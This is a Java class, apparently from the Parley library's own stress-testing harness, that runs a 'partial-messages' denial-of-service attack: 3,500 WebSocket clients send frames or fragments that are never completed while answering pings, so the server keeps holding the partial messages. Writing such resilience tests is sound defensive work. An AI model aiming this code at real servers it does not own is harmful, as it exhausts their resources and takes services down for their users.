package dev.parley.siege.attack;

import dev.parley.client.FrameCodec;
import dev.parley.client.WebSocketConnection;
import java.util.Arrays;

/** Makes a server keep messages that are never complete. */
final class PartialMessages implements Attack {
  private static final int CLIENTS = 3_500;
  private static final int LARGEST = 65_536;
  private static final int FRAGMENT = 21_000;
  private static final byte[] BUT_A_BYTE = allButTheLast(frame(0x81, LARGEST));
  private static final byte[] FIRST = frame(0x01, FRAGMENT);
  private static final byte[] NEXT = frame(0x00, FRAGMENT);

  @Override
  public String name() {
    return "partial-messages";
  }

  @Override
  public String line() {
    return "3,500 WebSockets send 64 KiB but for the last byte, or fragments but for the last.";
  }

  @Override
  public void run(Attacker attacker) throws InterruptedException {
    attacker.crowd(
        CLIENTS,
        client -> {
          try (AttackConnection connection = attacker.connect(client)) {
            WebSocketConnection socket =
                connection.enter(
                    attacker.fresh("partial"), attacker.fresh("key-0123456789abcdef01"));
            if (client % 2 == 0) {
              socket.send(BUT_A_BYTE); // a pong would be taken for its last byte
              connection.read(Integer.MAX_VALUE);
            } else {
              socket.send(FIRST);
              socket.send(NEXT);
              socket.send(NEXT);
            }
            while (!attacker.isOver()) {
              connection.receive(socket); // answers pings, so that only the message is at fault
            }
          }
        });
  }

  private static byte[] frame(int first, int length) {
    byte[] text = new byte[length];
    Arrays.fill(text, (byte) 'x');
    return FrameCodec.encode(first, text);
  }

  private static byte[] allButTheLast(byte[] frame) {
    return Arrays.copyOf(frame, frame.length - 1);
  }
}
